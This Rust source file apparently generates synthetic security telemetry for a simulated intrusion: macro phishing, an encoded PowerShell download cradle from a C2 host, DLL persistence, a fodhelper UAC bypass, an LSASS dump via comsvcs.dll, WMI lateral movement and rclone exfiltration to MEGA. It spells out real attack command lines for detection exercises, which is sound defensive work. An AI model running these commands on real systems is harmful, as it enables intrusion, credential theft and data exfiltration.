//! Macro phishing → PowerShell loader → discovery → LSASS dump → WMI lateral movement →
//! 7-Zip and rclone exfiltration to MEGA.

use rand::Rng;
use serde_json::json;

use super::{Builder, pick_index, windows_users};
use crate::baseline::win_pid;
use crate::emit::endpoint::{self, Account, Conn, FileOp, LogonOp, Proc, RegOp};
use crate::emit::identity::{self, IdLogon, IdQuery, Who};
use crate::emit::mail::{self, Attachment, Mail};
use crate::ids::{Hashes, guid, hex_digest, powershell_encoded};
use crate::images::{Image, Img};
use crate::time::{MIN, Micros, SEC};

const C2_HOST: &str = "cdn.northpeak-logistics.co";
const LURE_DOMAIN: &str = "northpeak-logistics.co";

pub(super) fn play(b: &mut Builder, t0: Micros) -> Option<(&'static str, &'static str)> {
    let org = b.org;
    let candidates = windows_users(org, &["Finance", "Procurement", "Sales", "Operations"]);
    let ui = pick_index(b.rng, &candidates, &windows_users(org, &[]))?;
    let victim = org.users.get(ui)?;
    let di = victim.device?;
    let dev = org.devices.get(di)?;
    let pr = b.procs(di)?;
    let explorer = pr.explorer()?;
    let admin_user = org.users.get(pick_index(b.rng, &org.admins(), &[])?)?;
    let admin = admin_user.admin.as_ref()?;
    let fs = org.devices.get(org.infra.file_server)?;
    let dc = org.devices.get(org.infra.dc1)?;
    let c2_ip = b.attacker_ip("198.51.100");
    let mail_ip = b.attacker_ip("203.0.113");
    let mega_ip = "31.216.145.5";
    let domain = org.ad_domain.to_lowercase();
    let home = format!(r"C:\Users\{}", victim.account_name);
    let cache_dir = hex_digest(&format!("olk{t0}"), 4).to_uppercase();
    let doc_name = format!("INV-{}.docm", b.rng.random_range(20_000..29_999));
    let doc_path = format!(r"{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{cache_dir}\{doc_name}");
    let doc_hash = Hashes::of(&format!("lure:{doc_name}:{t0}"));
    let dll_path = format!(r"{home}\AppData\Local\Temp\nvupd.dll");
    let dll = Image::unsigned(&dll_path, 412_672, &format!("loader:{t0}"));

    for d in [dev, fs, dc] {
        b.device(d);
    }
    b.user(victim);
    b.upn(&admin.upn);
    b.mailbox(&victim.mailbox);
    b.ip(&c2_ip);
    b.ip(&mail_ip);
    b.ip(mega_ip);
    b.domain(LURE_DOMAIN);
    b.domain(C2_HOST);
    b.domain("g.api.mega.co.nz");
    b.url(&format!("https://{C2_HOST}/api/v2/update"));
    b.file(&doc_name, &doc_hash.sha1, &doc_hash.sha256);
    b.file("nvupd.dll", &dll.hashes.sha1, &dll.hashes.sha256);

    // Earlier that day the helpdesk admin signed in on the victim's laptop to fix a
    // printer, leaving credentials in LSASS. Not part of the attack.
    let lsass = pr.lsass();
    endpoint::logon(
        b.em,
        dev,
        t0 - 3 * 3600 * SEC,
        &lsass,
        LogonOp {
            action: "LogonSuccess",
            logon_type: "RemoteInteractive",
            account: Account::admin(admin, &org.ad_domain),
            protocol: "Kerberos",
            is_local_admin: true,
            logon_id: b.rng.random_range(0x30000..0x9_0000_0000i64),
            remote_ip: admin_user.device.and_then(|i| org.devices.get(i)).map(|d| d.ip.as_str()).unwrap_or("10.10.1.5"),
            remote_device: admin_user.device.and_then(|i| org.devices.get(i)).map(|d| d.host_name.as_str()).unwrap_or(""),
            ..Default::default()
        },
    );

    // 1. The lure.
    b.stage("Phishing email with macro attachment delivered", &["initial-access"], &["T1566.001"], &[], &["malware_attachment_delivered"]);
    let nmid = guid(b.rng);
    let m = Mail {
        network_message_id: nmid.clone(),
        internet_message_id: format!("<{}@{LURE_DOMAIN}>", hex_digest(&nmid, 10)),
        from: format!("billing@{LURE_DOMAIN}"),
        from_display: "Northpeak Billing".into(),
        mail_from: format!("bounce-7731@mail.{LURE_DOMAIN}"),
        sender_ip: mail_ip.clone(),
        to: victim.mailbox.clone(),
        to_object_id: victim.object_id.clone(),
        subject: format!("Overdue invoice {} - payment required", doc_name.trim_end_matches(".docm")),
        direction: "Inbound",
        delivery_action: "Delivered",
        delivery_location: "Inbox/folder",
        auth: Some(json!({"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "softpass"})),
        attachments: vec![Attachment {
            file_name: doc_name.clone(),
            file_type: "docm".into(),
            sha256: doc_hash.sha256.clone(),
            size: 184_320,
            ..Default::default()
        }],
        language: "en",
        email_action: "No action",
        cluster_id: b.rng.random_range(1_000_000..9_000_000),
        ..Default::default()
    };
    mail::deliver(b.em, t0, &m);
    // Detonation convicts the attachment later; zero-hour auto purge pulls the message.
    let zap = t0 + 47 * MIN;
    mail::post_delivery(b.em, zap, &m, "Malware ZAP", "Moved to quarantine", "Malware ZAP", "Malware", "Quarantine");

    // 2. The user opens it and enables content.
    let t1 = t0 + b.rng.random_range(3 * MIN..15 * MIN);
    b.stage(
        "Macro document opened; Word spawns encoded PowerShell",
        &["execution", "defense-evasion"],
        &["T1204.002", "T1059.005", "T1059.001", "T1027"],
        &["0e29e3a7-1ad8-40aa-b691-9f82ecd33d66", "e6ce8457-68b1-485b-9bdd-3c2b5d679aa9", "a166f74e-bf44-409d-b9ba-ea4b2dd8b3cd", "438025f9-5856-4663-83f7-52f878a70a50", "fb843269-508c-4b76-8b8d-88679db22ce7"],
        &[],
    );
    let outlook = explorer.spawn(b.img.get(Img::Outlook), win_pid(b.rng), r#""C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE""#, t0 - 2 * 3600 * SEC);
    endpoint::file(
        b.em,
        dev,
        t1,
        &outlook,
        FileOp { action: "FileCreated", path: &doc_path, sha1: &doc_hash.sha1, sha256: &doc_hash.sha256, md5: &doc_hash.md5, size: 184_320, ..Default::default() },
    );
    let word = outlook.spawn(
        b.img.get(Img::WinWord),
        win_pid(b.rng),
        format!(r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "{doc_path}" /o """#),
        t1 + 2 * SEC,
    );
    endpoint::process_created(b.em, dev, t1 + 2 * SEC, &word, &outlook);
    endpoint::image_load(b.em, dev, t1 + 3 * SEC, &word, b.img.get(Img::Mso));
    let t_enable = t1 + b.rng.random_range(20 * SEC..90 * SEC);
    let trust_key = format!(r"HKEY_CURRENT_USER\{}\Software\Microsoft\Office\16.0\Word\Security\Trusted Documents\TrustRecords", victim.sid);
    let trust_value = format!("%USERPROFILE%/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/{cache_dir}/{doc_name}");
    endpoint::registry(
        b.em,
        dev,
        t_enable,
        &word,
        RegOp { action: "RegistryValueSet", key: &trust_key, value_name: &trust_value, value_type: "Binary", data: "A0B3D1F2E15EDA0100000000FFFFFF7F", previous_data: "" },
    );
    endpoint::image_load(b.em, dev, t_enable + SEC, &word, b.img.get(Img::Vbe7));
    let cradle = format!("IEX (New-Object System.Net.WebClient).DownloadString('https://{C2_HOST}/api/v2/update')");
    let ps = word.spawn(
        b.img.get(Img::PowerShell),
        win_pid(b.rng),
        format!("powershell.exe -nop -w hidden -enc {}", powershell_encoded(&cradle)),
        t_enable + 3 * SEC,
    );
    endpoint::process_created(b.em, dev, t_enable + 3 * SEC, &ps, &word);

    // 3. The cradle fetches and runs a DLL loader that persists and beacons.
    let t2 = t_enable + 5 * SEC;
    b.stage(
        "PowerShell cradle drops a DLL loader, persists it and beacons to C2",
        &["execution", "persistence", "command-and-control"],
        &["T1059.001", "T1105", "T1218.011", "T1547.001", "T1071.001"],
        &["403c2cc0-7f6b-4925-9423-bfa573bed7eb", "02ee49e2-e294-4d0f-9278-f5b3212fc588", "cdc8da7d-c303-42f8-b08c-b4ab47230263"],
        &[],
    );
    endpoint::powershell_command(b.em, dev, t2, &ps, &cradle);
    endpoint::network(
        b.em,
        dev,
        t2 + 300_000,
        &ps,
        Conn { action: "ConnectionSuccess", remote_ip: &c2_ip, remote_port: 443, remote_url: C2_HOST, local_ip: &dev.ip, local_port: b.rng.random_range(49152..65535), protocol: "Tcp" },
        None,
    );
    let stage2 = format!("$c=New-Object System.Net.WebClient;$c.DownloadFile('https://{C2_HOST}/api/v2/nv.bin','{dll_path}');Start-Process rundll32.exe -ArgumentList '\"{dll_path}\",DllRegisterServer'");
    endpoint::powershell_command(b.em, dev, t2 + 2 * SEC, &ps, &stage2);
    endpoint::file(
        b.em,
        dev,
        t2 + 4 * SEC,
        &ps,
        FileOp {
            action: "FileCreated",
            path: &dll_path,
            sha1: &dll.hashes.sha1,
            sha256: &dll.hashes.sha256,
            md5: &dll.hashes.md5,
            size: dll.size,
            origin_url: &format!("https://{C2_HOST}/api/v2/nv.bin"),
            origin_ip: &c2_ip,
            ..Default::default()
        },
    );
    let rundll = ps.spawn(b.img.get(Img::Rundll32), win_pid(b.rng), format!(r#""C:\Windows\system32\rundll32.exe" "{dll_path}",DllRegisterServer"#), t2 + 6 * SEC);
    endpoint::process_created(b.em, dev, t2 + 6 * SEC, &rundll, &ps);
    endpoint::image_load(b.em, dev, t2 + 6 * SEC + 40_000, &rundll, &dll);
    let run_key = format!(r"HKEY_CURRENT_USER\{}\Software\Microsoft\Windows\CurrentVersion\Run", victim.sid);
    let run_data = format!(r#"C:\Windows\system32\rundll32.exe "{dll_path}",DllRegisterServer"#);
    endpoint::registry(
        b.em,
        dev,
        t2 + 9 * SEC,
        &rundll,
        RegOp { action: "RegistryValueSet", key: &run_key, value_name: "NvUpdateTask", value_type: "String", data: &run_data, previous_data: "" },
    );
    let mut tb = t2 + 10 * SEC;
    for _ in 0..12 {
        endpoint::network(
            b.em,
            dev,
            tb,
            &rundll,
            Conn { action: "ConnectionSuccess", remote_ip: &c2_ip, remote_port: 443, remote_url: C2_HOST, local_ip: &dev.ip, local_port: b.rng.random_range(49152..65535), protocol: "Tcp" },
            None,
        );
        tb += b.rng.random_range(45 * SEC..75 * SEC);
    }

    // 4. Hands-on-keyboard discovery through the beacon.
    let t3 = t2 + b.rng.random_range(4 * MIN..12 * MIN);
    b.stage(
        "Discovery of user, groups and domain controllers",
        &["discovery"],
        &["T1033", "T1069.002", "T1018"],
        &["bd8b828d-0dca-48e1-8a63-8a58ecf2644f", "d95de845-b83c-4a9a-8a6a-4fc802ebf6c0", "5cc90652-4cbd-4241-aa3b-4b462fa5a248"],
        &[],
    );
    let cmd = rundll.spawn(b.img.get(Img::Cmd), win_pid(b.rng), r"C:\Windows\system32\cmd.exe /c whoami /groups", t3);
    endpoint::process_created(b.em, dev, t3, &cmd, &rundll);
    let who = cmd.spawn(b.img.get(Img::Whoami), win_pid(b.rng), "whoami  /groups", t3 + 100_000);
    endpoint::process_created(b.em, dev, t3 + 100_000, &who, &cmd);
    let t = t3 + b.rng.random_range(20 * SEC..60 * SEC);
    let cmd2 = rundll.spawn(b.img.get(Img::Cmd), win_pid(b.rng), r#"C:\Windows\system32\cmd.exe /c net group "domain admins" /domain"#, t);
    endpoint::process_created(b.em, dev, t, &cmd2, &rundll);
    let net = cmd2.spawn(b.img.get(Img::Net), win_pid(b.rng), r#"net  group "domain admins" /domain"#, t + 80_000);
    endpoint::process_created(b.em, dev, t + 80_000, &net, &cmd2);
    let net1 = net.spawn(b.img.get(Img::Net1), win_pid(b.rng), r#"C:\Windows\system32\net1  group "domain admins" /domain"#, t + 120_000);
    endpoint::process_created(b.em, dev, t + 120_000, &net1, &net);
    identity::identity_query(
        b.em,
        t + 400_000,
        &IdQuery {
            action: "SAMR query",
            query_type: "QueryGroup",
            query_target: "Domain Admins",
            query: "QueryGroup",
            protocol: "Samr",
            who: Who { name: &victim.account_name, domain: &org.ad_domain, upn: &victim.upn, sid: &victim.sid, object_id: &victim.object_id, display: &victim.display_name },
            device_name: &dev.device_name,
            ip: &dev.ip,
            dest_device: &dc.device_name,
            dest_ip: &dc.ip,
            dest_port: 445,
            ..Default::default()
        },
    );
    let t = t + b.rng.random_range(30 * SEC..90 * SEC);
    let cmd3 = rundll.spawn(b.img.get(Img::Cmd), win_pid(b.rng), format!(r"C:\Windows\system32\cmd.exe /c nltest /dclist:{domain}"), t);
    endpoint::process_created(b.em, dev, t, &cmd3, &rundll);
    let nl = cmd3.spawn(b.img.get(Img::Nltest), win_pid(b.rng), format!("nltest  /dclist:{domain}"), t + 90_000);
    endpoint::process_created(b.em, dev, t + 90_000, &nl, &cmd3);

    // 5. UAC bypass and an LSASS minidump through comsvcs.dll.
    let t4 = t + b.rng.random_range(5 * MIN..20 * MIN);
    b.stage(
        "UAC bypass and LSASS memory dump via comsvcs.dll",
        &["privilege-escalation", "defense-evasion", "credential-access"],
        &["T1548.002", "T1003.001"],
        &["7f741dcf-fc22-4759-87b4-9ae8376676a2", "646ea171-dded-4578-8a4d-65e9822892e3", "a5a2d357-1ab8-4675-a967-ef9990a59391"],
        &[],
    );
    let ms_key = format!(r"HKEY_CURRENT_USER\{}_Classes\ms-settings\Shell\Open\command", victim.sid);
    endpoint::registry(
        b.em,
        dev,
        t4,
        &rundll,
        RegOp { action: "RegistryValueSet", key: &ms_key, value_name: "DelegateExecute", value_type: "String", data: "", previous_data: "" },
    );
    endpoint::registry(
        b.em,
        dev,
        t4 + 200_000,
        &rundll,
        RegOp { action: "RegistryValueSet", key: &ms_key, value_name: "(Default)", value_type: "String", data: &run_data, previous_data: "" },
    );
    let fod_img = Image::new(r"C:\Windows\System32\fodhelper.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System", "Features On Demand Helper", "FodHelper.EXE", "10.0.22621.1", 49_152);
    let fod = Proc { integrity: "High", elevation: "TokenElevationTypeFull", ..rundll.spawn(&fod_img, win_pid(b.rng), r#""C:\Windows\system32\fodhelper.exe""#, t4 + SEC) };
    endpoint::process_created(b.em, dev, t4 + SEC, &fod, &rundll);
    let high = fod.spawn(b.img.get(Img::Rundll32), win_pid(b.rng), run_data.clone(), t4 + 2 * SEC);
    endpoint::process_created(b.em, dev, t4 + 2 * SEC, &high, &fod);
    let lsass_pid = pr.rt.lsass_pid;
    let dump_cmd = format!(r"C:\Windows\System32\rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump {lsass_pid} C:\Windows\Temp\lsass.dmp full");
    let t = t4 + b.rng.random_range(30 * SEC..3 * MIN);
    let dumper = high.spawn(b.img.get(Img::Rundll32), win_pid(b.rng), dump_cmd, t);
    endpoint::process_created(b.em, dev, t, &dumper, &high);
    endpoint::image_load(b.em, dev, t + 50_000, &dumper, b.img.get(Img::Comsvcs));
    endpoint::device_event(b.em, dev, t + 300_000, "OpenProcessApiCall", &dumper, |r| {
        r.s("FileName", "lsass.exe").s("FolderPath", r"C:\Windows\System32\lsass.exe").j("AdditionalFields", json!({"DesiredAccess": 2035711}));
    });
    let dump_hash = Hashes::of(&format!("dump:{t}"));
    endpoint::file(
        b.em,
        dev,
        t + 2 * SEC,
        &dumper,
        FileOp { action: "FileCreated", path: r"C:\Windows\Temp\lsass.dmp", sha1: &dump_hash.sha1, sha256: &dump_hash.sha256, md5: &dump_hash.md5, size: 52_428_800, ..Default::default() },
    );

    // 6. The helpdesk admin's hash moves the attacker to the file server over WMI.
    let t5 = t + b.rng.random_range(10 * MIN..40 * MIN);
    b.stage(
        "Lateral movement to the file server with the stolen admin credential (wmiexec)",
        &["lateral-movement", "execution"],
        &["T1550.002", "T1047", "T1021.002"],
        &["10c14723-61c7-4c75-92ca-9af245723ad2"],
        &[],
    );
    let admin_who = Who { name: &admin.account_name, domain: &org.ad_domain, upn: &admin.upn, sid: &admin.sid, object_id: &admin.object_id, display: &admin.display_name };
    for (i, port) in [135i64, 49_667].iter().enumerate() {
        endpoint::network(
            b.em,
            dev,
            t5 + i as i64 * 200_000,
            &rundll,
            Conn { action: "ConnectionSuccess", remote_ip: &fs.ip, remote_port: *port, remote_url: "", local_ip: &dev.ip, local_port: b.rng.random_range(49152..65535), protocol: "Tcp" },
            None,
        );
    }
    identity::identity_logon(
        b.em,
        t5 + 300_000,
        &IdLogon {
            action: "LogonSuccess",
            application: "Active Directory",
            logon_type: "Credentials validation",
            protocol: "Ntlm",
            who: admin_who,
            device_name: &dev.device_name,
            os_platform: "Windows",
            ip: &dev.ip,
            dest_device: &dc.device_name,
            dest_ip: &dc.ip,
            dest_port: 445,
            ..Default::default()
        },
    );
    let fpr = b.procs(org.infra.file_server)?;
    let admin_logon = b.rng.random_range(0x30000..0x9_0000_0000i64);
    endpoint::logon(
        b.em,
        fs,
        t5 + 500_000,
        &fpr.lsass(),
        LogonOp {
            action: "LogonSuccess",
            logon_type: "Network",
            account: Account::admin(admin, &org.ad_domain),
            protocol: "NTLM",
            is_local_admin: true,
            logon_id: admin_logon,
            remote_ip: &dev.ip,
            remote_device: &dev.host_name,
            remote_port: b.rng.random_range(49152..65535),
            ..Default::default()
        },
    );
    let wmi = fpr.wmiprvse();
    let admin_acct = Account::admin(admin, &org.ad_domain);
    let mut tw = t5 + 2 * SEC;
    let mut last_cmd = None;
    for c in ["cd \\", "whoami", "dir D:\\Shares\\Departments\\Finance", "mkdir C:\\PerfLogs"] {
        let marker = format!("__{}.{}", tw / SEC, b.rng.random_range(10..99));
        let line = format!(r"cmd.exe /Q /c {c} 1> \\127.0.0.1\ADMIN$\{marker} 2>&1");
        let p = Proc {
            account: admin_acct,
            integrity: "High",
            elevation: "TokenElevationTypeDefault",
            logon_id: admin_logon,
            session: 0,
            ..wmi.spawn(b.img.get(Img::Cmd), win_pid(b.rng), line, tw)
        };
        endpoint::process_created(b.em, fs, tw, &p, &wmi);
        last_cmd = Some(p);
        tw += b.rng.random_range(5 * SEC..40 * SEC);
    }
    let shell = last_cmd?;

    // 7. Staging and exfiltration from the file server.
    let t6 = tw + b.rng.random_range(3 * MIN..10 * MIN);
    b.stage(
        "Finance share archived with a password and exfiltrated to MEGA with rclone",
        &["collection", "exfiltration"],
        &["T1560.001", "T1567.002", "T1105"],
        &["9fbf5927-5261-4284-a71d-f681029ea574", "bbb7e38c-0b41-4a11-b306-d2a457b7ac2b", "e37db05d-d1f9-49c8-b464-cee1a4b11638", "fdeebdf0-9f3f-4d08-84a6-4c4d13e39fe4"],
        &[],
    );
    let zip_cmd = r#""C:\Program Files\7-Zip\7z.exe" a -t7z -mx3 -pFin@nce2025! C:\PerfLogs\fin_q1.7z D:\Shares\Departments\Finance"#;
    let z = shell.spawn(b.img.get(Img::SevenZip), win_pid(b.rng), zip_cmd, t6);
    endpoint::process_created(b.em, fs, t6, &z, &shell);
    let archive = Hashes::of(&format!("archive:{t6}"));
    endpoint::file(
        b.em,
        fs,
        t6 + 95 * SEC,
        &z,
        FileOp { action: "FileCreated", path: r"C:\PerfLogs\fin_q1.7z", sha1: &archive.sha1, sha256: &archive.sha256, md5: &archive.md5, size: 1_873_029_120, ..Default::default() },
    );
    b.file("fin_q1.7z", &archive.sha1, &archive.sha256);
    let rclone = Image::new(r"C:\PerfLogs\rclone.exe", "https://rclone.org", "Rclone", "Rsync for cloud storage", "rclone.exe", "1.65.2", 54_353_408);
    b.file("rclone.exe", &rclone.hashes.sha1, &rclone.hashes.sha256);
    let tr = t6 + 2 * MIN;
    endpoint::file(
        b.em,
        fs,
        tr,
        &shell,
        FileOp {
            action: "FileCreated",
            path: &rclone.path,
            sha1: &rclone.hashes.sha1,
            sha256: &rclone.hashes.sha256,
            md5: &rclone.hashes.md5,
            size: rclone.size,
            smb: Some((&dev.ip, &admin.account_name, &org.ad_domain, "ADMIN$")),
            ..Default::default()
        },
    );
    let rc = shell.spawn(
        &rclone,
        win_pid(b.rng),
        r"C:\PerfLogs\rclone.exe copy C:\PerfLogs\fin_q1.7z mega:backup --config C:\PerfLogs\rc.conf --no-check-certificate --transfers 8 -q",
        tr + 30 * SEC,
    );
    endpoint::process_created(b.em, fs, tr + 30 * SEC, &rc, &shell);
    let mut tm = tr + 32 * SEC;
    for host in ["g.api.mega.co.nz", "gfs270n128.userstorage.mega.co.nz", "gfs262n300.userstorage.mega.co.nz", "gfs214n116.userstorage.mega.co.nz"] {
        endpoint::network(
            b.em,
            fs,
            tm,
            &rc,
            Conn { action: "ConnectionSuccess", remote_ip: mega_ip, remote_port: 443, remote_url: host, local_ip: &fs.ip, local_port: b.rng.random_range(49152..65535), protocol: "Tcp" },
            None,
        );
        tm += b.rng.random_range(20 * SEC..4 * MIN);
    }
    Some((
        "Macro phishing to data exfiltration",
        "A finance-side user opens a macro invoice from a look-alike of a real supplier. Word runs encoded PowerShell that drops a DLL loader (Run-key persistence, HTTPS beacon). The operator enumerates the domain, bypasses UAC with fodhelper, dumps LSASS with comsvcs.dll and reuses a helpdesk admin's NTLM hash to reach the file server over WMI, where the finance share is archived with 7-Zip and copied to MEGA with rclone.",
    ))
}
